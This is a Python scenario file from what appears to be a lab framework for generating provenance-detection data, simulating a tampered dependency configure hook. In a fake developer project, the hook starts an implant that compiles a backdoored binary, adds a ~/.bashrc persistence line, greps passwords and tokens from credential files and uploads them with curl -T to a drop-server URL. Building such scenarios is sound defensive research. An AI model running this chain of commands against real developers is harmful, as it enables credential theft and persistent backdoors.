"""DARPA TC style supply-chain attack: a tampered dependency's build hook.

Modelled on the supply-chain scenarios of the TC engagements and on real build-script
compromises: a vendored dependency's configure script was altered upstream. When the
developer builds the project, the hook starts an implant; the attacker replaces the built
binary with a backdoored one compiled on the spot, plants a shell-rc hook, harvests
credentials from the developer's files and uploads them to a drop server.
"""

from __future__ import annotations

from provarmor.lab import techniques as t
from provarmor.lab.context import LabContext
from provarmor.lab.payloads import backdoored_tool_c
from provarmor.lab.scenario import (
    Action,
    Channel,
    Payload,
    Plan,
    Scenario,
    SetupFile,
    StepSpec,
)
from provarmor.lab.scenarios.implants import fileless_start, implant_payload
from provarmor.lab.scenarios.steps import compile_downloaded

STEPS = (
    StepSpec(
        name="tainted-build",
        summary="The developer runs make; the dependency's tampered configure hook pipes an "
        "implant from the attacker's server into Python and carries on.",
        techniques=(t.SUPPLY_CHAIN_DEPENDENCY, t.UNIX_SHELL, t.PYTHON),
    ),
    StepSpec(
        name="beacon",
        summary="The implant polls its server over HTTP; the first task surveys the machine.",
        techniques=(t.WEB_PROTOCOLS, t.SYSTEM_INFO, t.FILE_DISCOVERY),
    ),
    StepSpec(
        name="backdoor-binary",
        summary="A backdoored version of the project's tool is compiled from downloaded "
        "source and replaces the build output.",
        techniques=(t.INGRESS_TRANSFER, t.COMPILE_AFTER_DELIVERY, t.COMPROMISE_BINARY),
    ),
    StepSpec(
        name="shell-rc-hook",
        summary="A line appended to the developer's ~/.bashrc restarts the implant at login.",
        techniques=(t.SHELL_CONFIG,),
    ),
    StepSpec(
        name="harvest-credentials",
        summary="grep collects passwords and tokens from the developer's files.",
        techniques=(t.CREDENTIALS_IN_FILES, t.LOCAL_DATA),
    ),
    StepSpec(
        name="upload",
        summary="The harvest is uploaded with an HTTP PUT to a separate drop server.",
        techniques=(t.EXFIL_UNENCRYPTED,),
    ),
)

_MAKEFILE = """all: build/{tool}

build/config.h: vendor/{dep}/configure
\tmkdir -p build
\t$(CURDIR)/vendor/{dep}/configure > build/config.h

build/{tool}: src/main.c build/config.h
\tgcc -O1 -Ibuild -o build/{tool} src/main.c

clean:
\trm -rf build
"""

_CONFIGURE = """#!/bin/sh
# {dep} configure: detect the platform
{start}
echo '#define PLATFORM "linux"'
echo '#define VERSION "{version}"'
"""

_MAIN = """#include <stdio.h>
#include "config.h"
int main(void) { printf("%s %s\\n", PLATFORM, VERSION); return 0; }
"""


def _project(
    ctx: LabContext, *, project: str, tool: str, dep: str, url: str
) -> tuple[SetupFile, ...]:
    user = ctx.dev_user
    home = ctx.home(user)
    version = f"{ctx.names.rng.randrange(1, 5)}.{ctx.names.rng.randrange(0, 20)}"
    return (
        SetupFile(
            path=f"{project}/Makefile", content=_MAKEFILE.format(tool=tool, dep=dep), owner=user
        ),
        SetupFile(path=f"{project}/src/main.c", content=_MAIN, owner=user),
        SetupFile(
            path=f"{project}/vendor/{dep}/configure",
            mode=0o755,
            owner=user,
            content=_CONFIGURE.format(dep=dep, start=fileless_start(url), version=version),
        ),
        SetupFile(
            path=f"{home}/.git-credentials",
            mode=0o600,
            owner=user,
            content=f"https://{user}:ghp_{ctx.names.token(30)}@git.example.lab\n",
        ),
        SetupFile(
            path=f"{project}/.env",
            mode=0o600,
            owner=user,
            content=f"DB_PASSWORD={ctx.names.token(14)}\nSTRIPE_TOKEN=sk_{ctx.names.token(20)}\n",
        ),
    )


def plan(ctx: LabContext) -> Plan:
    implant = implant_payload(ctx)
    project = f"{ctx.home(ctx.dev_user)}/projects/{ctx.names.word()}"
    tool = ctx.names.pick(("imgconv", "logship", "dbsync", "mdrender"))
    dep = ctx.names.pick(("libfastjson", "zlite", "yamlpp", "miniparse"))
    source = Payload(
        path=f"src/{ctx.names.token(6)}.c",
        content=backdoored_tool_c(beacon_url=f"{ctx.c2.url}/{ctx.names.token(5)}"),
    )
    harvest = f"/var/tmp/{ctx.names.hidden()}"  # noqa: S108  (the attacker's choice)
    rc_line = fileless_start(ctx.payload_url(implant.path))
    return Plan(
        setup_files=_project(
            ctx, project=project, tool=tool, dep=dep, url=ctx.payload_url(implant.path)
        ),
        payloads=(implant, source),
        actions=(
            Action(
                step="tainted-build",
                channel=Channel.VICTIM,
                user=ctx.dev_user,
                command=f"cd {project} && make && ./build/{tool}",
            ),
            Action(
                step="beacon",
                channel=Channel.IMPLANT,
                command="uname -a; id; pwd; ls -la ~ ~/projects",
            ),
            Action(
                step="backdoor-binary",
                channel=Channel.IMPLANT,
                command=compile_downloaded(
                    ctx, source, f"{project}/build/{tool}", flags="-O1", scratch="m.c"
                )
                + f" && {project}/build/{tool}",
            ),
            Action(
                step="shell-rc-hook",
                channel=Channel.IMPLANT,
                command=f'echo "{rc_line}" >> ~/.bashrc && tail -n 1 ~/.bashrc',
            ),
            Action(
                step="harvest-credentials",
                channel=Channel.IMPLANT,
                command=f"grep -rIhE 'PASSWORD|TOKEN|ghp_' ~/.git-credentials ~/projects "
                f"2>/dev/null > {harvest}; wc -l {harvest}",
            ),
            Action(
                step="upload",
                channel=Channel.IMPLANT,
                command=f"curl -s -T {harvest} {ctx.sink_url}/{ctx.names.token(6)} "
                f"&& rm -f {harvest}",
            ),
        ),
        artifacts=(harvest,),
        exec_roots=(f"{project}/vendor/{dep}/configure",),
    )


SCENARIO = Scenario(
    name="tc-supply-chain",
    title="Tampered dependency build hook, backdoored binary, credential theft (supply chain)",
    modelled_on="DARPA Transparent Computing supply-chain scenarios; build-script "
    "compromises of vendored dependencies",
    description=(
        "A vendored dependency in the developer's project ships a tampered configure script. "
        "When the developer runs make, the script starts an implant (curl piped into "
        "Python, detached with nohup) and then prints the expected header, so the build "
        "succeeds. Through the implant the attacker surveys the machine, compiles a "
        "backdoored version of the project's tool from downloaded source over the build "
        "output, appends a line to ~/.bashrc that restarts the implant, greps passwords and "
        "tokens out of the developer's files and uploads them with curl -T to a drop server."
    ),
    root_cause=(
        "The tampered vendor/<dependency>/configure script, executed by the developer's make: "
        "the implant and all later activity descend from it (make itself is benign)."
    ),
    steps=STEPS,
    plan=plan,
)
